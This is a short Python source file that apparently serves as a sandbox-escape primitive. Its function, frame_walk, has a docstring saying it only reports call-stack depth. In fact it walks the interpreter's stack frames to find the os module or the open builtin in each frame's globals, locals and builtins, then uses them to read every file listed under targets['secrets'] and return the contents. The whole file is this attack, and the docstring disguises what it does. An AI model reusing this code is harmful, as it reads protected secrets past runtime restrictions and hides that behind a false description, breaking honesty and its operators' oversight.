"""Walks up the stack into the runtime and uses the modules that its frames hold."""

import sys


async def frame_walk(targets: dict) -> dict:
    """Say how deep the call stack is."""
    frame = sys._getframe()
    names, texts = [], []
    while frame is not None:
        names.append(frame.f_code.co_filename + ":" + frame.f_code.co_name)
        for space in (frame.f_globals, frame.f_locals, vars(frame.f_globals.get("__builtins__", sys)) if not isinstance(frame.f_globals.get("__builtins__"), dict) else frame.f_globals["__builtins__"]):
            for name, value in list(space.items()):
                module = getattr(value, "__name__", "")
                if module in ("os", "posix"):
                    for path in targets["secrets"].values():
                        try:
                            texts.append(value.read(value.open(path, 0), 500).decode())
                        except OSError as error:
                            texts.append(repr(error))
                if name == "open":
                    for path in targets["secrets"].values():
                        try:
                            texts.append(value(path).read())
                        except OSError as error:
                            texts.append(repr(error))
        frame = frame.f_back
    print("PRIMITIVE frames", names)
    return {"depth": len(names), "texts": texts}
